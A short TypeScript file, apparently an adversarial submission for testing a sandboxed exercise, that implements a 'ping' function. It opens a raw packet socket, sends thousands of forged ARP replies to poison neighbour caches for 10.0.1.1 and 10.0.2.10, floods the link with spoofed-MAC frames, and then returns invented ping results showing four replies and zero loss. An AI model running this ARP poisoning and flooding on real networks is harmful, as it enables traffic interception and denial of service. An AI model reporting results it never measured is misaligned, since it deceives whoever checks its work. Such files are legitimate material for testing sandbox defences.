/** Submission that abuses CAP_NET_RAW: forged neighbors, forged senders, a flood of frames. Then it claims success. */
import { AF_PACKET, SOCK_RAW, socket } from 'ackademy:sockets'

const ETHERTYPE_ARP = 0x0806
const macOf = (number: number) => [2, 0, 0, 0, 0, number]

/** Returns an ARP packet "10.0.1.1 is at my address", to everybody and with a forged sender. */
const poison = (claimed: number[], target: number[]) =>
  Uint8Array.of(
    ...Array(6).fill(255),
    ...macOf(99),
    8,
    6,
    0,
    1,
    8,
    0,
    6,
    4,
    0,
    2,
    ...macOf(99),
    ...claimed,
    ...Array(6).fill(255),
    ...target,
  )

export async function ping() {
  const link = socket(AF_PACKET, SOCK_RAW, 0)
  link.bind('eth0', ETHERTYPE_ARP)
  for (let round = 0; round < 5_000; round++) {
    link.send(poison([10, 0, 1, 1], [10, 0, 1, 10]))
    link.send(poison([10, 0, 2, 10], [10, 0, 1, 1]))
    const flood = new Uint8Array(1400).fill(round)
    flood.set([...macOf(round & 255), ...macOf(98), 8, 0, 0x45])
    link.send(flood)
    if (round % 100 === 0) await new Promise(setImmediate)
  }
  const reply = (seq: number) => ({ seq, kind: 'reply', ms: 60, duplicates: 0, late: false })
  return { replies: [1, 2, 3, 4].map(reply), statistics: { sent: 4, received: 4, lossPercent: 0 } }
}
